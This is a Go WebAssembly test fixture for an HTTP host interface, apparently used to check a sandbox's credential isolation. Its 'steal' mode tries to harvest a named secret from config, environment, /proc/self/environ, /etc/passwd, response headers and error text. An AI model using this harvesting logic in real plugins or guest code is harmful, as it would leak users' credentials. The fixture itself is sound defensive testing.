// Command httpguest is the outbound HTTP test fixture, written against docs/abi.md with raw
// imports (no SDK). The message body is a request script:
//
//	METHOD URL [credential] [read-buffer-bytes]
//	Header: value            (zero or more)
//	                          (blank line, then the request body)
//
// It makes the request, reads the whole response body in pieces of the given size (default
// 64 KiB), and emits one line: "status=S code=C read=N retry-after=R body=<first 64 bytes>",
// where C is the first negative code a host function returned (0 if none). A request the host
// refuses returns retry with http_error's text as the reason.
//
// A first line "steal NAME URL" instead tries every host function to read credential NAME's
// secret (config, metadata, environment, files, response headers, http_error) and emits all
// it found.
package main

import (
	"os"
	"strconv"
	"strings"
	"unsafe"
)

//go:wasmimport wqhost msg_body_len
func msgBodyLen() int32

//go:wasmimport wqhost msg_body
func msgBody(ptr, n uint32) int32

//go:wasmimport wqhost msg_meta
func msgMeta(kp, kn, bp, bn uint32) int32

//go:wasmimport wqhost config_get
func configGet(kp, kn, bp, bn uint32) int32

//go:wasmimport wqhost set_error
func setError(p, n uint32)

//go:wasmimport wqhost emit
func emit(qp, qn, bp, bn uint32) int32

//go:wasmimport wqhost http_request
func httpRequest(mp, mn, up, un, hp, hn, bp, bn, cp, cn uint32) int32

//go:wasmimport wqhost http_status
func httpStatus(h int32) int32

//go:wasmimport wqhost http_header
func httpHeader(h int32, np, nn, bp, bn uint32) int32

//go:wasmimport wqhost http_body_read
func httpBodyRead(h int32, bp, bn uint32) int32

//go:wasmimport wqhost http_close
func httpClose(h int32) int32

//go:wasmimport wqhost http_error
func httpError(bp, bn uint32) int32

func ptr(b []byte) uint32 {
	if len(b) == 0 {
		return 0
	}
	return uint32(uintptr(unsafe.Pointer(&b[0])))
}

func sptr(s string) uint32 {
	if len(s) == 0 {
		return 0
	}
	return uint32(uintptr(unsafe.Pointer(unsafe.StringData(s))))
}

func lookup(f func(kp, kn, bp, bn uint32) int32, key string) string {
	n := f(sptr(key), uint32(len(key)), 0, 0)
	if n < 0 {
		return ""
	}
	buf := make([]byte, n)
	f(sptr(key), uint32(len(key)), ptr(buf), uint32(n))
	return string(buf)
}

func lastError() string {
	buf := make([]byte, 1024)
	n := httpError(ptr(buf), uint32(len(buf)))
	if n < 0 {
		return ""
	}
	return string(buf[:min(int(n), len(buf))])
}

func header(h int32, name string) string {
	buf := make([]byte, 256)
	n := httpHeader(h, sptr(name), uint32(len(name)), ptr(buf), uint32(len(buf)))
	if n < 0 {
		return ""
	}
	return string(buf[:min(int(n), len(buf))])
}

func send(s string) { emit(0, 0, sptr(s), uint32(len(s))) }

//go:wasmexport wqhost_abi_v1
func abiV1() {}

//go:wasmexport wqhost_feature_http_v1
func featureHTTP() {}

var rbuf []byte

//go:wasmexport wqhost_handle
func handle() int32 {
	body := make([]byte, msgBodyLen())
	msgBody(ptr(body), uint32(len(body)))
	head, reqBody, _ := strings.Cut(string(body), "\n\n")
	first, hdrs, _ := strings.Cut(head, "\n")
	f := strings.Fields(first)
	if len(f) >= 3 && f[0] == "steal" {
		return steal(f[1], f[2])
	}
	if len(f) < 2 {
		setError(sptr("bad script"), 10)
		return 2
	}
	method, url, cred := f[0], f[1], ""
	if len(f) > 2 && f[2] != "-" {
		cred = f[2]
	}
	size := 64 << 10
	if len(f) > 3 {
		size, _ = strconv.Atoi(f[3])
	}
	h := httpRequest(sptr(method), uint32(len(method)), sptr(url), uint32(len(url)), sptr(hdrs), uint32(len(hdrs)),
		sptr(reqBody), uint32(len(reqBody)), sptr(cred), uint32(len(cred)))
	if h < 0 {
		msg := "code=" + strconv.Itoa(int(h)) + " " + lastError()
		setError(sptr(msg), uint32(len(msg)))
		return 1
	}
	if cap(rbuf) < size {
		rbuf = make([]byte, size)
	}
	buf := rbuf[:size]
	code, read := int32(0), 0
	var prefix []byte
	for {
		n := httpBodyRead(h, ptr(buf), uint32(len(buf)))
		if n < 0 {
			code = n
			break
		}
		if n == 0 {
			break
		}
		if len(prefix) < 64 {
			prefix = append(prefix, buf[:min(int(n), 64-len(prefix))]...)
		}
		read += int(n)
	}
	out := "status=" + strconv.Itoa(int(httpStatus(h))) + " code=" + strconv.Itoa(int(code)) + " read=" + strconv.Itoa(read) +
		" retry-after=" + header(h, "Retry-After") + " body=" + string(prefix)
	httpClose(h)
	send(out)
	return 0
}

// steal looks for credential name's secret everywhere a guest can look.
func steal(name, url string) int32 {
	var found []string
	add := func(where, v string) {
		if v != "" {
			found = append(found, where+"="+v)
		}
	}
	for _, k := range []string{name, "http.credentials." + name, "Authorization", "X-Api-Key", "value_env", "WEBHOOK_SECRET"} {
		add("config:"+k, lookup(configGet, k))
		add("meta:"+k, lookup(msgMeta, k))
		add("env:"+k, os.Getenv(k))
	}
	add("environ", strings.Join(os.Environ(), ","))
	for _, p := range []string{"/proc/self/environ", "/etc/passwd", "."} {
		if b, err := os.ReadFile(p); err == nil {
			add("file:"+p, string(b))
		}
	}
	m, u := "GET", url
	h := httpRequest(sptr(m), 3, sptr(u), uint32(len(u)), 0, 0, 0, 0, sptr(name), uint32(len(name)))
	add("error", lastError())
	if h > 0 {
		for _, k := range []string{"Authorization", "X-Api-Key", "Set-Cookie"} {
			add("header:"+k, header(h, k))
		}
		httpClose(h)
	}
	// Wrong host for the credential: the error text must not carry the secret either.
	evil := "http://127.0.0.1:1/"
	httpRequest(sptr(m), 3, sptr(evil), uint32(len(evil)), 0, 0, 0, 0, sptr(name), uint32(len(name)))
	add("error2", lastError())
	send(strings.Join(found, "\n"))
	return 0
}

func main() {}
